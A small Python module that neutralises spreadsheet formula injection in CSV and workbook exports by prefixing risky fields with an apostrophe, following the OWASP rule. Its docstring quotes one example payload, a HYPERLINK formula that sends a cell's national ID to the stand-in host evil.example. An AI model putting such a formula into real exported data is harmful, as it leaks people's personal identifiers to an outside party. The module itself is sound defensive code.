"""Values written to spreadsheets and CSV files: shown, never run.

A firm named ``=HYPERLINK("http://evil.example/?"&B2,"Open")`` would otherwise become a live
formula in a manager's workbook and send another firm's national ID away with one click. The
OWASP rule for CSV: a field starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading apostrophe. In a workbook every text is a text cell (openpyxl takes any string
starting with ``=`` for a formula).
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_field(value: object) -> object:
    """A CSV field that a spreadsheet opening the file shows as text."""
    return "'" + value if isinstance(value, str) and looks_like_formula(value) else value
